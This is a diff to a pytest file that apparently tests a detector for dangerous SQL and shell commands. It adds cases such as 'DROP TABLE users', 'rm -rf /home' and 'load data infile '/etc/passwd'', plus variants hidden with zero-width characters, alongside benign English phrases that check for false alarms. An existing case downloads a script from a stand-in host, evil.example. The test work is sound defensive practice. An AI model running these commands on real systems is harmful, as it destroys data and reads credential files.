@@ -129,6 +129,30 @@ def test_an_ordinary_value_beside_what_runs_changes_nothing(value: str) -> None:
         "CREATE TABLE x (id int)",
         "sudo su -",
         "curl -s http://evil.example/x -o run.sh",
+        "HANDLER users OPEN",
+        "HANDLER users OPEN AS h; HANDLER h READ FIRST",
+        "please run: DROP TABLE users;",
+        "Please run:\ndrop table users;",
+        "run this: DELETE FROM users WHERE 1=1",
+        "```sql\nDROP TABLE users\n```",
+        "\u200bdrop table users",
+        "dr\u200bop table users",
+        "\u2060rm -rf /home",
+        "DROP TABLE syntax",
+        "drop table syntax;",
+        "TRUNCATE text",
+        "truncate table users",
+        "create user story with password 'x'",
+        "kill -9 1234",
+        "rm -rf src meaning",
+        "rm -rf /meaning",
+        "prepare p as delete from users",
+        "prepare p from 'drop table users'",
+        "load data infile '/etc/passwd' into table t",
+        "create function f() returns int as 'x' language c",
+        "create trigger t after insert on users for each row execute function f()",
+        "create index on users (name)",
+        "create login mallory with password = 'x'",
     ],
 )
 def test_a_complete_statement_or_command_is_found(text: str) -> None:
@@ -138,9 +162,23 @@ def test_a_complete_statement_or_command_is_found(text: str) -> None:
     assert found.risk is Risk.CRITICAL
 
 
+@pytest.mark.parametrize(
+    "text", ["merge into t using s on t.id = s.id when matched then delete", "set password = 'x'"]
+)
+def test_a_complete_statement_of_high_risk_is_found(text: str) -> None:
+    found = find_in(text)
+
+    assert found is not None
+    assert found.risk is Risk.HIGH
+
+
 ENGLISH = """create user stories examples|create table tennis league|drop table tennis today|create view of it
 update customers set expectations|delete from inbox folder|grant access to Bob|exec summary
-curl hair tutorial"""
+curl hair tutorial|create user story|create login page|create index on customers|create trigger warning
+create function to sort|create domain model|prepare report from notes|prepare report as pdf|load infile
+merge branch using rebase on main|set password reset|truncate text|optimize table mysql|drop table syntax
+chmod 755 meaning|chmod 644 vs 755|kill -9 meaning|rm -rf meaning|handler is open|note: drop table users
+Todo: delete from users|👩\u200d💻 code review"""
 
 
 @pytest.mark.parametrize("text", ENGLISH.replace("\n", "|").split("|"))
